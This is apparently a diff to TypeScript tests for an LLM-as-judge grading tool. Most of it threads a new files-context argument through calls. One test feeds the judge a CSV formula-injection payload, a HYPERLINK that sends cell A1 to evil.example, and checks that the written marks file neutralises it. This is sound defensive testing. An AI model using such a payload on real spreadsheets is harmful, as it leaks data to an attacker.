@@ -8,9 +8,9 @@ import { createJudgeCall, JudgeCallError } from '../../src/marks/judge-client.js
 import { judgeWithModel } from '../../src/marks/judge-model.js';
 import { judgeSettingsSchema, type JudgeSettings, type JudgeSettingsInput } from '../../src/config/judge-settings.js';
 import { loadJudgeSettings } from '../../src/marks/load-judge-settings.js';
-import { sha256 } from '../../src/pipeline/manifest.js';
-import type { MarkRow } from '../../src/marks/marks-file.js';
-import { parseMarks } from '../../src/marks/read-marks.js';
+import { sha256 } from '../../src/run-dir/manifest.js';
+import type { MarkRow } from '../../src/run-dir/marks-file.js';
+import { parseMarks } from '../../src/run-dir/read-marks.js';
 import {
   closedPort,
   RETRY_NOW,
@@ -23,6 +23,9 @@ import {
   type Responder,
 } from '../helpers/fake-llm-server.js';
 import { DEFAULT_RUBRIC, folderBytes, folderText, makeJudgeRun, type JudgeRunSpec } from '../helpers/judge-run.js';
+
+// The operations' files context: relative paths of their input are this process's folder's, as before.
+const HERE = { cwd: process.cwd(), paths: { baseDir: process.cwd() } };
 
 const KEY_VAR = 'TURNKIT_TEST_JUDGE_KEY';
 const KEY = 'sk-turnkit-test-7f3a9c2e51d84b06';
@@ -156,7 +159,7 @@ describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s S
   it('writes marks.judge-MODEL.csv with pass, fail and na per rep and the JSONL of verdicts with reasons', async () => {
     const dir = await newRun(MIXED_RUN);
     server.respond(script(MIXED_PLAN));
-    const result = await judgeWithModel({ env: process.env, dir, settings: settingsOf({ provider }) });
+    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
 
     expect(result).toMatchObject({
       file: join(dir, `marks.judge-${MODEL}.csv`),
@@ -253,7 +256,7 @@ describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s S
     const reason = '=HYPERLINK("http://evil.example/?"&A1,"deck 2")';
     const dir = await newRun({ fixtures: [{ name: 'alpha', reps: ['[alpha-1] Take the lift to deck 2.'] }] });
     server.respond(script({ '[alpha-1]': verdict('pass', reason) }));
-    const result = await judgeWithModel({ env: process.env, dir, settings: settingsOf({ provider }) });
+    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
     const text = await readFile(result.file, 'utf8');
     expect(text).toContain(`alpha,1,pass,"'=HYPERLINK(""http://evil.example/?""&A1,""deck 2"")",judge-${MODEL},`);
     expect((await readMarksRows(result.file))[0]?.note).toBe(reason);
@@ -269,7 +272,11 @@ describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s S
         '[alpha-2]': [{ status: 500, headers: RETRY_NOW }, verdict('fail', 'after a server error')],
       }),
     );
-    const result = await judgeWithModel({ env: process.env, dir, settings: settingsOf({ provider, retries: 2 }) });
+    const result = await judgeWithModel(HERE, {
+      env: process.env,
+      dir,
+      settings: settingsOf({ provider, retries: 2 }),
+    });
     expect(result).toMatchObject({ pass: 1, fail: 1, error: 0 });
     expect(timeless(await readMarksRows(result.file)).map((row) => [row.rep, row.mark, row.note])).toEqual([
       [1, 'pass', 'after a rate limit'],
@@ -292,7 +299,11 @@ describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s S
         '[alpha-3]': verdict('fail', 'wrong deck'),
       }),
     );
-    const result = await judgeWithModel({ env: process.env, dir, settings: settingsOf({ provider, retries: 1 }) });
+    const result = await judgeWithModel(HERE, {
+      env: process.env,
+      dir,
+      settings: settingsOf({ provider, retries: 1 }),
+    });
     expect(result).toMatchObject({ pass: 1, fail: 1, error: 1 });
     const rows = await readMarksRows(result.file);
     expect(rows.map((row) => row.mark)).toEqual(['pass', 'error', 'fail']);
@@ -314,7 +325,7 @@ describe.each(['openai', 'anthropic'] as const)('judgeWithModel through the %s S
     ];
     const dir = await newRun({ fixtures: [{ name: 'alpha', reps: answers.map((_, i) => `[alpha-${i + 1}] deck 2`) }] });
     server.respond(script(Object.fromEntries(answers.map((content, i) => [`[alpha-${i + 1}]`, { content }]))));
-    const result = await judgeWithModel({ env: process.env, dir, settings: settingsOf({ provider }) });
+    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ provider }) });
     expect(result).toMatchObject({ pass: 0, fail: 0, na: 0, error: 4 });
     const rows = await readMarksRows(result.file);
     expect(rows.map((row) => row.mark)).toEqual(['error', 'error', 'error', 'error']);
@@ -440,7 +451,7 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
       fixtures: [{ name: 'alpha', reps: cases.map((_, i) => `[alpha-${i + 1}] Take the lift to deck 2.`) }],
     });
     server.respond(script(Object.fromEntries(cases.map((c, i) => [`[alpha-${i + 1}]`, { content: c.answer }]))));
-    const result = await judgeWithModel({ env: process.env, dir, settings: settingsOf() });
+    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(server.requests).toHaveLength(cases.length);
     const rows = await readMarksRows(result.file);
     expect(rows).toHaveLength(cases.length);
@@ -460,7 +471,7 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
     // judge's "fail" into a pass.
     const dir = await newRun({ fixtures: [{ name: 'alpha', reps: ['[alpha-1] deck 3'] }] });
     server.respond(() => ({ content: '{"verdict": "fail", "reason": "deck 3", "verdict": "pass"}' }));
-    const result = await judgeWithModel({ env: process.env, dir, settings: settingsOf() });
+    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
     expect((await readMarksRows(result.file)).map((row) => row.mark)).toEqual(['error']);
     expect(result.pass).toBe(0);
   });
@@ -479,7 +490,7 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
         '[alpha-3]': verdict('pass', 'fine'),
       }),
     );
-    const result = await judgeWithModel({ env: process.env, dir, settings: settingsOf() });
+    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
     expect((await readMarksRows(result.file)).map((row) => [row.mark, row.note])).toEqual([
       ['error', 'the judge answered nothing'],
       ['error', 'the judge answered nothing'],
@@ -498,11 +509,11 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
         '[alpha-3]': verdict('fail', 'deck 3'),
       }),
     );
-    const first = await judgeWithModel({ env: process.env, dir, settings: settingsOf() });
+    const first = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(first).toMatchObject({ pass: 1, fail: 1, error: 1, cached: 0 });
     server.reset();
     server.respond(script({ '[alpha-2]': verdict('pass', 'now readable') }));
-    const second = await judgeWithModel({ env: process.env, dir, settings: settingsOf() });
+    const second = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(second).toMatchObject({ pass: 2, fail: 1, error: 0, cached: 2 });
     expect(server.requests).toHaveLength(1);
     expect(userMessageOf(server.requests[0]!)).toContain('[alpha-2]');
@@ -516,7 +527,7 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
   it('counts the reps the judge could not judge in judgeErrors, apart from reps that errored in the SUT', async () => {
     const dir = await newRun(MIXED_RUN);
     server.respond(script({ ...MIXED_PLAN, '[alpha-2]': { content: 'Deck 3: a fail, I would say.' } }));
-    const first = await judgeWithModel({ env: process.env, dir, settings: settingsOf() });
+    const first = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
     // beta 1 errored in the SUT (error, not a judge error); alpha 2 got an answer that is no verdict.
     expect(first).toMatchObject({ pass: 2, fail: 0, na: 1, error: 2, notRun: 1, judgeErrors: 1 });
     // The file is written all the same, alpha 2 error.
@@ -530,13 +541,13 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
     ]);
     server.reset();
     server.respond(script(MIXED_PLAN));
-    const second = await judgeWithModel({ env: process.env, dir, settings: settingsOf() });
+    const second = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(second).toMatchObject({ pass: 2, fail: 1, na: 1, error: 1, notRun: 1, cached: 3, judgeErrors: 0 });
     // A request that failed (500 after retries 0) is a judge error too.
     const third = await newRun(MIXED_RUN);
     server.reset();
     server.respond(script({ ...MIXED_PLAN, '[alpha-3]': { status: 500, headers: RETRY_NOW } }));
-    expect(await judgeWithModel({ env: process.env, dir: third, settings: settingsOf() })).toMatchObject({
+    expect(await judgeWithModel(HERE, { env: process.env, dir: third, settings: settingsOf() })).toMatchObject({
       pass: 2,
       fail: 1,
       na: 0,
@@ -572,7 +583,7 @@ describe('judgeWithModel fails closed on what the judge answers', () => {
         '[alpha-4]': verdict('fail', 'No deck named.'),
       }),
     );
-    const result = await judgeWithModel({ env: process.env, dir, settings: settingsOf() });
+    const result = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(server.requests).toHaveLength(4);
     const rows = await readMarksRows(result.file);
     expect(rows.map((row) => row.mark)).toEqual(['error', 'error', 'fail', 'fail']);
@@ -598,7 +609,7 @@ describe('judgeWithModel stops with nothing written when every request would fai
     const before = await folderBytes(dir);
     const port = await closedPort();
     const error = await refusal(
-      judgeWithModel({
+      judgeWithModel(HERE, {
         env: process.env,
         dir,
         settings: settingsOf({ baseUrl: `http://127.0.0.1:${port}/v1`, retries: 0 }),
@@ -626,7 +637,7 @@ describe('judgeWithModel stops with nothing written when every request would fai
         }),
       }));
       const error = await refusal(
-        judgeWithModel({ env: process.env, dir, settings: settingsOf({ provider, concurrency: 1, retries: 3 }) }),
+        judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ provider, concurrency: 1, retries: 3 }) }),
       );
       expect(error.message).toMatch(
         /^the judge at http:\/\/127\.0\.0\.1:\d+(\/v1)? answered 401: .*Incorrect API key provided: \*\*\*.*; nothing written/,
@@ -643,7 +654,7 @@ describe('judgeWithModel stops with nothing written when every request would fai
   it('an endpoint that answers garbage (not JSON): every judged rep is error, none pass, nothing cached', async () => {
     const dir = await newRun(MIXED_RUN);
     server.respond(() => ({ raw: '<html>502 Bad Gateway</html>', contentType: 'application/json' }));
-    const result = await judgeWithModel({
+    const result = await judgeWithModel(HERE, {
       env: process.env,
       dir,
       settings: settingsOf({ concurrency: 1, retries: 0 }),
@@ -661,7 +672,7 @@ describe('judgeWithModel stops with nothing written when every request would fai
     async (provider) => {
       const dir = await newRun(MIXED_RUN);
       server.respond(() => ({ raw: '{}' }));
-      const result = await judgeWithModel({
+      const result = await judgeWithModel(HERE, {
         env: process.env,
         dir,
         settings: settingsOf({ provider, concurrency: 1 }),
@@ -678,7 +689,7 @@ describe('judgeWithModel stops with nothing written when every request would fai
     const dir = await newRun(MIXED_RUN);
     const before = await folderBytes(dir);
     const error = await refusal(
-      judgeWithModel({ env: process.env, dir, settings: settingsOf({ apiKeyEnv: 'TURNKIT_TEST_UNSET_KEY' }) }),
+      judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ apiKeyEnv: 'TURNKIT_TEST_UNSET_KEY' }) }),
     );
     expect(error.code).toBe('CONFIG');
     expect(error.message).toBe(
@@ -693,11 +704,11 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
   it('a second judging of the same run makes no request and gives the same marks', async () => {
     const dir = await newRun(MIXED_RUN);
     server.respond(script(MIXED_PLAN));
-    const first = await judgeWithModel({ env: process.env, dir, settings: settingsOf() });
+    const first = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(server.requests).toHaveLength(4);
     const firstRows = await readMarksRows(first.file);
     server.reset();
-    const second = await judgeWithModel({ env: process.env, dir, settings: settingsOf() });
+    const second = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
     expect(server.requests).toHaveLength(0);
     expect(second).toMatchObject({ pass: 2, fail: 1, na: 1, error: 1, notRun: 1, cached: 4 });
     expect(timeless(await readMarksRows(second.file))).toEqual(timeless(firstRows));
@@ -710,9 +721,9 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
   it("another model, or another provider, is not served from this model's cache", async () => {
     const dir = await newRun(MIXED_RUN);
     server.respond(script(MIXED_PLAN));
-    await judgeWithModel({ env: process.env, dir, settings: settingsOf() });
+    await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
     server.reset();
-    const other = await judgeWithModel({ env: process.env, dir, settings: settingsOf({ model: 'other-model' }) });
+    const other = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ model: 'other-model' }) });
     expect(other.cached).toBe(0);
     expect(server.requests).toHaveLength(4);
     expect(server.requests.map((request) => request.body.model)).toEqual([
@@ -723,7 +734,11 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
     ]);
     expect(other.file).toBe(join(dir, 'marks.judge-other-model.csv'));
     server.reset();
-    const anthropic = await judgeWithModel({ env: process.env, dir, settings: settingsOf({ provider: 'anthropic' }) });
+    const anthropic = await judgeWithModel(HERE, {
+      env: process.env,
+      dir,
+      settings: settingsOf({ provider: 'anthropic' }),
+    });
     expect(anthropic.cached).toBe(0);
     expect(server.requests).toHaveLength(4);
   });
@@ -733,12 +748,12 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
     server.respond(script(MIXED_PLAN));
     const other = await startFakeLlmServer(script(MIXED_PLAN));
     try {
-      const first = await judgeWithModel({ env: process.env, dir, settings: settingsOf() });
+      const first = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() });
       expect(first.cached).toBe(0);
       expect(server.requests).toHaveLength(4);
       server.reset();
       // Same provider, same model name, same rubric and responses: only the server differs.
-      const elsewhere = await judgeWithModel({
+      const elsewhere = await judgeWithModel(HERE, {
         env: process.env,
         dir,
         settings: settingsOf({ baseUrl: other.openaiBaseUrl }),
@@ -749,28 +764,28 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
       expect(server.requests).toHaveLength(0);
       // Each server's verdicts are served from the cache to that server's judging again.
       other.reset();
-      expect(await judgeWithModel({ env: process.env, dir, settings: settingsOf() })).toMatchObject({
+      expect(await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf() })).toMatchObject({
         cached: 4,
         pass: 2,
         fail: 1,
         na: 1,
       });
       expect(
-        await judgeWithModel({ env: process.env, dir, settings: settingsOf({ baseUrl: other.openaiBaseUrl }) }),
+        await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ baseUrl: other.openaiBaseUrl }) }),
       ).toMatchObject({
         cached: 4,
       });
       expect(server.requests).toHaveLength(0);
       expect(other.requests).toHaveLength(0);
       // Another temperature or token limit asks again as well.
-      expect((await judgeWithModel({ env: process.env, dir, settings: settingsOf({ temperature: 0.5 }) })).cached).toBe(
-        0,
-      );
+      expect(
+        (await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ temperature: 0.5 }) })).cached,
+      ).toBe(0);
       expect(server.requests).toHaveLength(4);
       server.reset();
-      expect((await judgeWithModel({ env: process.env, dir, settings: settingsOf({ maxTokens: 512 }) })).cached).toBe(
-        0,
-      );
+      expect(
+        (await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ maxTokens: 512 }) })).cached,
+      ).toBe(0);
       expect(server.requests).toHaveLength(4);
     } finally {
       await other.close();
@@ -787,7 +802,10 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
       ...MIXED_RUN,
     });
     server.respond(script(MIXED_PLAN));
-    await judgeWithModel({ env: process.env, dir, settings: settingsOf(), cwd: project });
+    await judgeWithModel(
+      { cwd: project, paths: { baseDir: project } },
+      { env: process.env, dir, settings: settingsOf() },
+    );
     const repsBefore = await folderBytes(join(dir, 'reps'));
     const manifestBefore = await readFile(join(dir, 'manifest.json'), 'utf8');
     const caseFilesBefore = await folderBytes(join(dir, 'case-files'));
@@ -818,13 +836,15 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
         '[beta-3]': verdict('pass', 'Deck 2, past the galley.'),
       }),
     );
-    const result = await judgeWithModel({
-      env: process.env,
-      dir,
-      settings: settingsOf(),
-      question: 'questions/places.yaml',
-      cwd: project,
-    });
+    const result = await judgeWithModel(
+      { cwd: project, paths: { baseDir: project } },
+      {
+        env: process.env,
+        dir,
+        settings: settingsOf(),
+        question: 'questions/places.yaml',
+      },
+    );
     expect(result).toMatchObject({ rubricVersion: '2', cached: 0, pass: 1, fail: 2, na: 1 });
     expect(server.requests).toHaveLength(4);
     for (const request of server.requests) {
@@ -857,7 +877,10 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
       'id: routes\nquestion: q?\nrubric: { path: rubric.md, version: 3 }\ntarget: 0.9\nreps: 3\nfixtures: [f.json]\nsut: { type: command, command: [node] }\ncaseFile: c.md\n',
     );
     const error = await refusal(
-      judgeWithModel({ env: process.env, dir, settings: settingsOf(), question: 'routes.yaml', cwd: project }),
+      judgeWithModel(
+        { cwd: project, paths: { baseDir: project } },
+        { env: process.env, dir, settings: settingsOf(), question: 'routes.yaml' },
+      ),
     );
     expect(error.message).toMatch(/routes\.yaml: question "routes", but .*run is a run of "places"$/);
     expect(server.requests).toHaveLength(0);
@@ -865,7 +888,9 @@ describe('judgeWithModel: cache, new rubric versions, the SUT left alone', () =>
 
   it('a run whose kept rubric is gone (and not unchanged at its path) is refused, pointing at --question', async () => {
     const dir = await newRun({ ...MIXED_RUN, noRubricCopy: true });
-    const error = await refusal(judgeWithModel({ env: process.env, dir, settings: settingsOf(), cwd: root }));
+    const error = await refusal(
+      judgeWithModel({ cwd: root, paths: { baseDir: root } }, { env: process.env, dir, settings: settingsOf() }),
+    );
     expect(error.code).toBe('NOT_FOUND');
     expect(error.message).toMatch(
       /the run's rubric \(questions\/places-rubric\.md, sha256 [0-9a-f]{12}\) is not in the run directory nor unchanged at its path; pass --question FILE/,
@@ -880,7 +905,7 @@ describe('judgeWithModel: warnings and concurrency', () => {
       sut: { type: 'http', baseUrl: 'http://127.0.0.1:1/v1', model: MODEL },
       fixtures: [{ name: 'alpha', reps: ['[alpha-1] deck 2'] }],
     });
-    const result = await judgeWithModel({ env: process.env, dir: same, settings: settingsOf() });
+    const result = await judgeWithModel(HERE, { env: process.env, dir: same, settings: settingsOf() });
     expect(result.warnings).toEqual([
       `the judge is the SUT's own model (${MODEL}): a model tends to grade its own answers kindly`,
     ]);
@@ -888,21 +913,21 @@ describe('judgeWithModel: warnings and concurrency', () => {
       sut: { type: 'http', baseUrl: 'http://127.0.0.1:1/v1', model: 'another-model' },
       fixtures: [{ name: 'alpha', reps: ['[alpha-1] deck 2'] }],
     });
-    expect((await judgeWithModel({ env: process.env, dir: other, settings: settingsOf() })).warnings).toEqual([]);
+    expect((await judgeWithModel(HERE, { env: process.env, dir: other, settings: settingsOf() })).warnings).toEqual([]);
   });
 
   it('never has more requests in flight than the concurrency, and does use it', async () => {
     const reps = Array.from({ length: 8 }, (_, i) => `[alpha-${i + 1}] deck 2`);
     const dir = await newRun({ fixtures: [{ name: 'alpha', reps }] });
     server.respond(() => ({ content: '{"verdict": "pass", "reason": "slow"}', delayMs: 50 }));
-    const two = await judgeWithModel({ env: process.env, dir, settings: settingsOf({ concurrency: 2 }) });
+    const two = await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ concurrency: 2 }) });
     expect(server.requests).toHaveLength(8);
     expect(server.maxInFlight).toBe(2);
     expect(two.pass).toBe(8);
 
     // The same run under another model (so nothing is cached) with 4 at a time.
     server.reset();
-    await judgeWithModel({ env: process.env, dir, settings: settingsOf({ model: 'wider', concurrency: 4 }) });
+    await judgeWithModel(HERE, { env: process.env, dir, settings: settingsOf({ model: 'wider', concurrency: 4 }) });
     expect(server.requests).toHaveLength(8);
     expect(server.maxInFlight).toBeGreaterThan(2);
     expect(server.maxInFlight).toBeLessThanOrEqual(4);
@@ -911,7 +936,7 @@ describe('judgeWithModel: warnings and concurrency', () => {
   it('reports progress once per rep it judged', async () => {
     const dir = await newRun(MIXED_RUN);
     const seen: [number, number][] = [];
-    await judgeWithModel({
+    await judgeWithModel(HERE, {
       env: process.env,
       dir,
       settings: settingsOf(),
